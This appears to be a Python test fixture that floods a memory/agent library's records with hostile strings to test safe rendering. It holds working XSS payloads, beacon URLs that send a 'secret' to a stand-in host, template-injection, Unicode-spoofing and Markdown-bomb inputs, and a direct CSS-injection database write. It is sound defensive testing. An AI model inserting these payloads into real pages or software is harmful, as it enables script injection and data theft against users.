"""Hostile texts, and a memory with one in every field that accepts it."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial
from typing import Any

from memorist import Memory, Scope
from memorist.admin import audit_log
from memorist.base.errors import MemoristError
from memorist.storage.database import Transaction
from testkit.keys import create_key

EVIL = "http://127.0.0.2:1"
"""Elsewhere: whatever asks there was made to by a text."""
PIECES = [
    "<script>owned('script')</script>",
    "<img src=x onerror=owned('img')>",
    "\"><svg onload=owned('svg')><a href=\"javascript:owned('a')\">x</a>",
    f"<iframe src={EVIL}/frame></iframe><link rel=preconnect href={EVIL}><meta http-equiv=refresh content=0;url={EVIL}>",
    f'<style>@import url({EVIL}/a.css)</style><p style="background:url({EVIL}/b)">',
    f"![beacon]({EVIL}/p.png?q=secret) ![by name][b]\n\n[b]: {EVIL}/r.png\n\n",
    f"[click](javascript:owned('md')) [data](data:text/html,<script>owned(1)</script>) <{EVIL}/auto> {EVIL}/bare",
    "[MemoryRef: \"><img src=x onerror=owned('ref')> - <b>x</b>] [MemoryRef: no-such-key - <script>owned('chip')</script>]",
    "${owned('js')} {{constructor.constructor('owned(1)')()}} %3Cscript%3E \\u003cscript\\u003e &lt;i&gt; &#x3c;i&#x3e;",
    "\u202egnp.exe\u202c a\u200bb\u00adc\ufeff\u2066x\u2069 \U000e0041\U000e0042 e\u0301\u0301\u0301",
    "x\x00y\x1b[31mred\x07",
    "url(javascript:owned('css'))",
    "__proto__",
    "..",
    "W" * 400,
]
ALL = "\n".join(PIECES).replace("\x00", "")
HEAVY = [">" * 4000 + "a", "- " * 1500, "*a_b" * 5000, "[" * 5000]
"""What keeps a parser of Markdown busy for long, or nests deeper than it can follow: none may take a page down."""
LONG = "<b>long</b> " * 4000 + "Q" * 50_000


def each(write: Callable[[str], Any]) -> list[Any]:
    """Write every text and return the results for the accepted ones."""
    created = []
    for text in [ALL, *PIECES]:
        try:
            created.append(write(text))
        except MemoristError:  # refused: there is nothing to show
            continue
    return created


def infest(memory: Memory, user: str, agent: str) -> dict[str, list[str]]:
    """Fill a memory with hostile texts and return the names of what can be opened."""
    me = memory.scope(tenant="default", user=user, agent=agent)
    names = each(lambda text: me.agents.add(text, prompt=ALL).name)
    me.agents.add(agent)
    for field in ("prompt", "model", "color", "icon"):
        each(partial(_set, me, agent, field))
    each(lambda text: me.agents.edit(agent, tools=[text]))
    sessions = each(
        lambda text: (
            me.sessions.add(text, label=text, attributes={"agents": [text, agent], text: text}).id
        )
    )
    session = me.sessions.add("the one", label=ALL[:150]).id
    picture = me.refs.add(
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.owned(1)'><image href='{EVIL}/i'/></svg>",
        "A picture",
    ).key
    _talk(me, session, picture)
    _memory(memory, me, session)
    documents = each(lambda text: me.documents.add(text, f"# {text}\n\n{ALL}", path=text).id)
    refs = each(
        lambda text: (
            me.refs.add(text + ALL, text, type=text, metadata={"command": text, "status": text}).key
        )
    )
    context = me.context(session, ALL[:2000])
    messages = [
        {"role": "user", "content": ALL},
        {"role": "assistant", "content": ALL, "author": agent},
    ]
    each(
        lambda text: me.interactions.add(
            text, text, latency_ms=1, error=text, parameters={text: text}
        )
    )
    turn = me.save_turn(
        session, messages, usage={"model": "<b>model</b>", "error": ALL[:900]}, context=context
    ).id
    memory.database.write("default", _colour)
    return {
        "agents": names,
        "sessions": [session, *sessions],
        "documents": documents,
        "refs": refs,
        "turns": [turn],
    }


def _clean(text: str) -> str:
    return text.replace("\x00", "")


def _set(me: Scope, agent: str, field: str, text: str) -> None:
    changed: dict[str, Any] = {field: text}
    me.agents.edit(agent, **changed)


def _talk(me: Scope, session: str, picture: str) -> None:
    each(lambda text: me.messages.append(session, "user", text))
    each(lambda text: me.messages.append(session, "assistant", text, author=text[:100]))
    for text in [LONG, *HEAVY]:
        me.messages.append(session, "assistant", text)
    for text in map(_clean, PIECES):
        call = {"type": "tool_call", "id": text, "name": text, "arguments": text}
        result = {"type": "tool_result", "tool_call_id": text, "text": text}
        me.messages.append(session, "assistant", {"text": text, "parts": [call]})
        me.messages.append(session, "tool", {"parts": [result]})
    image = {"type": "reference", "media_type": "image/svg+xml", "key": picture}
    me.messages.append(
        session, "user", {"text": "Look", "parts": [image, {"type": ALL[:30], "text": ALL}]}
    )


def _memory(memory: Memory, me: Scope, session: str) -> None:
    user, agent = me.owner.user, me.owner.agent
    each(me.notes.overwrite)
    me.notes.overwrite(ALL + LONG[:50_000])
    each(lambda text: me.entries.add(text))
    each(lambda text: me.entries.add(text, kind="core"))
    each(
        lambda text: memory.scope(
            tenant="default", user=user, agent=agent, source="tool"
        ).entries.add(text, kind="core")
    )
    each(lambda text: me.entries.share(text, [agent or "", text, "<b>x</b>"]))
    for board in list(me.entries.boards()):
        each(partial(me.entries.add, kind="whiteboard", board=board))
    each(lambda text: me.state.set(text, {text: [text]}, ttl=9000))
    each(lambda text: me.state.set(text, text, area=f"session:{session}"))
    each(lambda text: create_key(memory, "default", text, ["read"], user=text, agent=text))

    def record(tx: Transaction) -> None:
        for text in map(_clean, PIECES):
            audit_log.add(tx, audit_log.NewAuditRecord(text, text, text, request_id=text))

    memory.database.write("default", record)
    old = [
        {"content": f"The plan {text}", "created_at": "2026-01-01T00:00:00Z"}
        for text in map(_clean, PIECES)
    ]
    me.entries.add_many(old)


def _colour(tx: Transaction) -> None:
    """Write a value that the library rejects, as another program may have done."""
    tx.run(
        "update agents set color = :bad, icon = :bad where tenant = :tenant",
        bad=f"red;background:url({EVIL}/c)",
    )
